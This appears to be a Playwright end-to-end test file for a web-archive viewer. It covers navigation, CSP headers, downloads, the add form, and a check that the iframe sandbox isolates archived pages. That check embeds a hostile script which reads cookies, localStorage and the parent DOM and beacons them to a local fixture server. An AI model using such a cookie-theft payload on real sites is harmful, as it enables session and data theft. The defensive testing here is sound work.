import { mkdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { articlePage, EDITED, ORIGINAL } from '../../demo/news-site.js';
import { captureUrl } from '../../functions/core/capture/capture.js';
import { watchIdFor } from '../../functions/core/domain/url.js';
import { addWatch } from '../../functions/core/watches/watches.js';
import { type ApiArchive, startApiArchive, URL_A } from '../support/api-archive.js';
import { type FixtureServer, startFixtureServer } from '../support/fixture-server.js';
import { EchoRenderer, StaticFetcher } from '../support/memory.js';
import { launchViewerBrowser } from '../support/viewer-browser.js';
import { validateWacz } from '../support/wacz-validator.js';

/**
 * The viewer in real Chromium against the real local server (store process, blob folder, both origins on
 * port 0), over a data dir made by the capture pipeline: list → watch → version → diff, the add form, and
 * an archived page whose script goes after the viewer's cookies, storage and DOM.
 */
const ARTIFACTS = join(import.meta.dirname, '..', '..', 'test-artifacts');
const URL_H = 'https://news.example/hostile';
const SECRET = 'viewer-secret-4711';

let archive: ApiArchive;
let browser: Browser;
let context: BrowserContext;
let reports: FixtureServer;
let app: string;

/** The archived page's script: what it can see of the viewer, sent to the fixture as a beacon and a fetch. */
const hostileScript = (reportUrl: string) => `<script>
  const seen = {};
  const grab = (name, read) => { try { seen[name] = String(read()); } catch (e) { seen[name] = 'threw'; } };
  grab('cookie', () => document.cookie);
  grab('storage', () => localStorage.getItem('secret'));
  grab('parentDom', () => parent.document.body.textContent.slice(0, 200));
  grab('parentCookie', () => parent.document.cookie);
  grab('topLocation', () => top.location.href);
  const report = '${reportUrl}?' + encodeURIComponent(JSON.stringify(seen));
  new Image().src = report;
  try { fetch(report, { mode: 'no-cors' }).catch(() => {}); } catch (e) {}
  try { parent.postMessage(seen, '*'); } catch (e) {}
</script>`;

const hostilePage = (reportUrl: string) =>
  articlePage(ORIGINAL, 1).replace('</body>', `${hostileScript(reportUrl)}</body>`);

const received = () =>
  reports.requests
    .filter((r) => r.startsWith('/report?'))
    .map((r) => JSON.parse(decodeURIComponent(r.slice('/report?'.length))) as Record<string, string>);

async function shot(page: Page, name: string) {
  await page.screenshot({ path: join(ARTIFACTS, `${name}.png`), fullPage: false });
}

/** Waits until the viewer has rendered a route (main has no aria-busy and shows that route). */
async function rendered(page: Page, route: string) {
  await page.waitForFunction(
    (r) => {
      const main = document.getElementById('main');
      return (
        main &&
        !main.hasAttribute('aria-busy') &&
        main.dataset.route === r &&
        main.dataset.rendered === (location.hash || '#/')
      );
    },
    route,
    { timeout: 30_000 },
  );
  expect(await page.locator('h1').textContent()).not.toMatch(/^(Something went wrong|Not found)$/);
}

beforeAll(async () => {
  await mkdir(ARTIFACTS, { recursive: true });
  reports = await startFixtureServer({
    '/report': (_req, res) => res.writeHead(204).end(),
    '/hostile': (_req, res) =>
      res
        .writeHead(200, { 'content-type': 'text/html', 'set-cookie': `fixture=${SECRET}; Path=/` })
        .end(hostilePage(`${reports.url}/report`)),
  });
  archive = await startApiArchive();
  app = archive.servers.urls.app;
  // The hostile page, archived through the same pipeline.
  const fetcher = new StaticFetcher();
  const { politeness: _politeness, ...rest } = archive.rt;
  const deps = {
    ...rest,
    fetcher,
    renderer: new EchoRenderer(),
    clock: { now: () => new Date('2026-11-21T09:00:00Z') },
  };
  await addWatch(deps, { url: URL_H, cadenceSeconds: 3600, mode: 'auto', tags: ['hostile'] });
  fetcher.pages.set(URL_H, { body: hostilePage(`${reports.url}/report`) });
  await captureUrl(deps, URL_H);
  browser = await launchViewerBrowser();
  context = await browser.newContext({ viewport: { width: 1280, height: 860 } });
}, 300_000);

afterAll(async () => {
  await context?.close();
  await browser?.close();
  await archive?.close();
  await reports?.close();
});

describe('viewer', () => {
  it('serves its page, script and stylesheet with a strict CSP that frames only the archive origin', async () => {
    for (const path of ['/', '/viewer.js', '/viewer.css']) {
      const response = await fetch(`${app}${path}`);
      expect(response.status).toBe(200);
      const csp = response.headers.get('content-security-policy') ?? '';
      expect(csp).toContain("default-src 'self'");
      expect(csp).toContain("script-src 'self'");
      expect(csp).not.toContain('unsafe-inline');
      expect(csp).toContain(`frame-src ${archive.servers.urls.archive}`);
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    }
    // Only its own paths: the API keeps its JSON 404s, and the archive origin serves no viewer.
    const missing = await fetch(`${app}/viewer.map`);
    expect(missing.status).toBe(404);
    expect(((await missing.json()) as { error: { code: string } }).error.code).toBe('not_found');
    expect((await fetch(`${archive.servers.urls.archive}/viewer.js`)).status).toBe(404);
    const html = await (await fetch(`${app}/`)).text();
    expect(html).not.toMatch(/<script(?![^>]*\bsrc=)/);
    expect(html).not.toMatch(/\sstyle=|<style/);
    const js = await (await fetch(`${app}/viewer.js`)).text();
    expect(js).not.toContain('innerHTML');
    expect(js).not.toContain('insertAdjacentHTML');
  });

  it('goes list → watch → version → diff, each page showing what it should', async () => {
    const page = await context.newPage();
    const errors: string[] = [];
    page.on('pageerror', (e) => errors.push(e.message));
    page.on('console', (m) => {
      if (m.type() === 'error') errors.push(m.text());
    });
    await page.goto(`${app}/`);
    await rendered(page, 'list');
    const idA = watchIdFor(URL_A);
    const rowA = page.locator(`tr[data-watch="${idA}"]`);
    await expect.poll(() => rowA.count()).toBe(1);
    const rowText = await rowA.textContent();
    expect(rowText).toContain(URL_A);
    expect(rowText).toContain('failed'); // its last capture failed
    expect(rowText).toContain('v3'); // last edit
    expect(rowText).toContain('city');
    expect(await rowA.locator('td.num').textContent()).toBe('3');
    // Keyboard: the page heading takes focus on each route (no ring: not a control); Tab goes on to the
    // filters, each control with a visible focus ring.
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('page-title');
    await page.keyboard.press('Tab');
    const focused = await page.evaluate(() => {
      const a = document.activeElement as HTMLElement;
      return { tag: a.tagName, name: a.getAttribute('name'), outline: getComputedStyle(a).outlineStyle };
    });
    expect(focused).toEqual({ tag: 'SELECT', name: 'tag', outline: 'solid' });
    await shot(page, 'viewer-list');

    // Filters: by tag, by status, and changed since a date (shareable as the URL).
    await page.goto(`${app}/#/?tag=county`);
    await rendered(page, 'list');
    expect(await page.locator('tbody tr').count()).toBe(1);
    expect(await page.locator('tbody tr').textContent()).toContain('news.example/b');
    await page.goto(`${app}/#/?status=anomaly`);
    await rendered(page, 'list');
    expect(await page.locator('tbody tr').allInnerTexts()).toEqual([
      expect.stringContaining('news.example/b'),
    ]);
    await page.goto(`${app}/#/?since=2026-11-20`);
    await rendered(page, 'list');
    // Versions after the date: A (v2, v3); C's v2 too, though C is no longer watched and so not listed.
    expect(await page.locator('tbody tr').allInnerTexts()).toEqual([expect.stringContaining(URL_A)]);
    await page.goto(`${app}/#/?since=2026-11-21`);
    await rendered(page, 'list');
    expect(await page.locator('tbody tr').count()).toBe(0);

    // The watch's timeline, from a link in the list.
    await page.goto(`${app}/#/`);
    await rendered(page, 'list');
    await rowA.locator('a.url').click();
    await rendered(page, 'watch');
    expect(page.url()).toBe(`${app}/#/w/${idA}`);
    const kinds = await page
      .locator('.timeline li')
      .evaluateAll((items) => items.map((li) => li.getAttribute('data-kind')));
    // Newest first: failed (+5h), v3 (+4h), 404 anomaly (+3h), v2 (+2h), unchanged (+1h), v1.
    expect(kinds).toEqual(['failed', 'version', 'anomaly', 'version', 'unchanged', 'version']);
    const timeline = await page.locator('.timeline').textContent();
    expect(timeline).toMatch(/Version 3 .* \d+ edits?, \d+ words? changed/);
    expect(timeline).toContain('first version');
    await shot(page, 'viewer-watch');

    // A version: screenshot, PDF link, archived page framed from the archive origin, text, every digest.
    await page.locator('.timeline a', { hasText: 'Version 2' }).first().click();
    await rendered(page, 'v');
    expect(page.url()).toBe(`${app}/#/w/${idA}/v/2`);
    const version = (await (await fetch(`${app}/api/watches/${idA}/versions/2`)).json()) as {
      artifacts: Record<string, { digest: string; href: string }>;
    };
    const archiveOrigin = archive.servers.urls.archive;
    expect(await page.locator('img.shot').getAttribute('src')).toBe(version.artifacts.screenshot!.href);
    expect(await page.locator('a', { hasText: 'Open the PDF' }).getAttribute('href')).toBe(
      version.artifacts.pdf!.href,
    );
    const frame = page.locator('iframe.archived');
    expect(await frame.getAttribute('sandbox')).toBe('');
    expect(new URL((await frame.getAttribute('src'))!).origin).toBe(archiveOrigin);
    await expect.poll(() => page.locator('#version-text').textContent()).toContain(EDITED.headline);
    const digests = await page.locator('table.digests').textContent();
    for (const ref of Object.values(version.artifacts)) expect(digests).toContain(ref.digest);
    await shot(page, 'viewer-version');

    // The diff from the version page, inline and side by side; ←/→ move between versions.
    await page.locator('a', { hasText: 'Diff with v1' }).click();
    await rendered(page, 'diff');
    expect(page.url()).toBe(`${app}/#/w/${idA}/diff/1/2`);
    const diff = (await (await fetch(`${app}/api/watches/${idA}/diff?from=1&to=2`)).json()) as {
      edits: { kind: string; after?: string }[];
    };
    expect(diff.edits.length).toBeGreaterThan(0);
    expect(await page.locator('ol.edits > li').count()).toBe(diff.edits.length);
    expect(await page.locator('ol.edits > li').first().getAttribute('data-kind')).toBe(diff.edits[0]!.kind);
    expect(await page.locator('#diff-summary').textContent()).toContain(`${diff.edits.length} edits`);
    expect(await page.locator('ol.edits ins').count()).toBeGreaterThan(0);
    await shot(page, 'viewer-diff');
    await page.locator('#diff-view').click();
    await rendered(page, 'diff');
    expect(page.url()).toBe(`${app}/#/w/${idA}/diff/1/2?view=side`);
    expect(await page.locator('ol.edits .side').count()).toBe(diff.edits.length);
    await shot(page, 'viewer-diff-side');
    await page.keyboard.press('ArrowRight');
    await page.waitForURL(`${app}/#/w/${idA}/diff/2/3?view=side`, { timeout: 30_000 });
    await rendered(page, 'diff');
    expect(await page.locator('h1').textContent()).toBe('Version 2 → 3');
    await page.keyboard.press('ArrowLeft');
    await page.waitForURL(`${app}/#/w/${idA}/diff/1/2?view=side`, { timeout: 30_000 });
    // A shared link survives a reload.
    await page.reload();
    await rendered(page, 'diff');
    expect(await page.locator('h1').textContent()).toBe('Version 1 → 2');

    // Phone width.
    await page.setViewportSize({ width: 390, height: 800 });
    await page.goto(`${app}/#/`);
    await rendered(page, 'list');
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
    await shot(page, 'viewer-list-phone');
    // The archived pages' own scripts are blocked by the sandbox: that is the one error expected.
    const archiveOrigin2 = archive.servers.urls.archive;
    expect(errors.filter((e) => !e.startsWith(`Blocked script execution in '${archiveOrigin2}/`))).toEqual(
      [],
    );
    await page.close();
  });

  it('downloads the WACZ from the watch page and the evidence bundle from the diff page', async () => {
    const page = await context.newPage();
    const idA = watchIdFor(URL_A);
    const download = async (selector: string) => {
      const [file] = await Promise.all([
        page.waitForEvent('download', { timeout: 60_000 }),
        page.click(selector),
      ]);
      return { name: file.suggestedFilename(), bytes: await readFile((await file.path())!) };
    };
    await page.goto(`${app}/#/w/${idA}`);
    await rendered(page, 'watch');
    const wacz = page.locator('#watch-wacz');
    expect(await wacz.textContent()).toBe('Export WACZ');
    expect(await wacz.getAttribute('href')).toBe(`/api/watches/${idA}/export?format=wacz`);
    expect(await wacz.getAttribute('download')).toBe('');
    const waczFile = await download('#watch-wacz');
    expect(waczFile.name).toBe(`redline-news.example-story-${idA.slice(2, 10)}-v1-v3.wacz`);
    expect(await validateWacz(waczFile.bytes)).toEqual([]);

    await page.goto(`${app}/#/w/${idA}/diff/1/3`);
    await rendered(page, 'diff');
    const evidence = page.locator('#diff-evidence');
    expect(await evidence.textContent()).toBe('Evidence bundle (1→3)');
    expect(await evidence.getAttribute('href')).toBe(`/api/watches/${idA}/evidence?from=1&to=3`);
    const bundle = await download('#diff-evidence');
    expect(bundle.name).toBe(`redline-news.example-story-${idA.slice(2, 10)}-v1-v3.zip`);
    expect(bundle.bytes.subarray(0, 4).toString('latin1')).toBe('PK\x03\x04');
    expect(bundle.bytes.includes(Buffer.from('SHA256SUMS'))).toBe(true);
    await page.close();
  });

  it('adds a watch from the form and shows it', async () => {
    const page = await context.newPage();
    await page.goto(`${app}/#/add`);
    await rendered(page, 'add');
    await page.fill('input[name=url]', 'https://news.example/added');
    await page.fill('input[name=every]', '2h');
    await page.fill('input[name=tags]', 'metro, night');
    await page.keyboard.press('Enter');
    await rendered(page, 'watch');
    expect(page.url()).toBe(`${app}/#/w/${watchIdFor('https://news.example/added')}`);
    expect(await page.locator('h1').textContent()).toBe('https://news.example/added');
    expect(await page.locator('.meta').textContent()).toMatch(/every 120 min.*metro.*night/s);
    const stored = await archive.rt.watches.getWatch(watchIdFor('https://news.example/added'));
    expect(stored?.tags).toEqual(['metro', 'night']);
    await page.close();
  });

  it('keeps an archived page’s script away from the viewer’s cookies, storage and DOM', async () => {
    // Control: the same page loaded directly runs its script and reports what it can see.
    const control = await context.newPage();
    await control.goto(`${reports.url}/hostile`);
    await expect.poll(() => received().length, { timeout: 30_000 }).toBeGreaterThan(0);
    expect(received()[0]!.cookie).toContain(SECRET);
    await control.close();
    reports.requests.length = 0;

    const page = await context.newPage();
    const consoleLines: string[] = [];
    page.on('console', (m) => consoleLines.push(m.text()));
    const messages: unknown[] = [];
    await page.exposeFunction('recordMessage', (data: unknown) => messages.push(data));
    await page.goto(`${app}/`);
    await rendered(page, 'list');
    await page.evaluate((secret) => {
      // biome-ignore lint/suspicious/noDocumentCookie: the viewer's cookie the archived page must not read
      document.cookie = `viewer=${secret}; Path=/`;
      localStorage.setItem('secret', secret);
      addEventListener('message', (event) =>
        (window as unknown as { recordMessage(d: unknown): void }).recordMessage(event.data),
      );
    }, SECRET);
    await page.goto(`${app}/#/w/${watchIdFor(URL_H)}/v/1`);
    await rendered(page, 'v');
    const frame = page.locator('iframe.archived');
    expect(await frame.getAttribute('sandbox')).toBe('');
    const src = (await frame.getAttribute('src'))!;
    expect(new URL(src).origin).toBe(archive.servers.urls.archive);
    const framed = await fetch(src);
    expect(framed.headers.get('content-security-policy')).toBe('sandbox');
    expect(await framed.text()).toContain('parent.document');
    // The frame loaded the archived page (its article text is in it) ...
    await expect.poll(() => page.frames().some((f) => f.url() === src), { timeout: 30_000 }).toBe(true);
    const child = page.frames().find((f) => f.url() === src);
    await expect
      .poll(() => child!.evaluate(() => document.body?.textContent ?? ''), { timeout: 30_000 })
      .toContain(ORIGINAL.headline);
    // ... Chromium refused to run its script (the sandbox allows none) ...
    await expect
      .poll(() => consoleLines.some((line) => line.startsWith(`Blocked script execution in '${src}'`)), {
        timeout: 30_000,
      })
      .toBe(true);
    // ... and a moment later its script has reached nothing: no report, no message, the viewer unchanged.
    await page.waitForTimeout(1_000);
    const seen = received();
    for (const report of seen) {
      expect(JSON.stringify(report)).not.toContain(SECRET);
      expect(report.parentDom).toBe('threw');
      expect(report.topLocation).toBe('threw');
    }
    expect(seen).toEqual([]);
    expect(messages).toEqual([]);
    expect(await page.evaluate(() => document.cookie)).toContain(SECRET);
    expect(page.url()).toBe(`${app}/#/w/${watchIdFor(URL_H)}/v/1`);
    await shot(page, 'viewer-hostile');
    await page.close();
  });
});
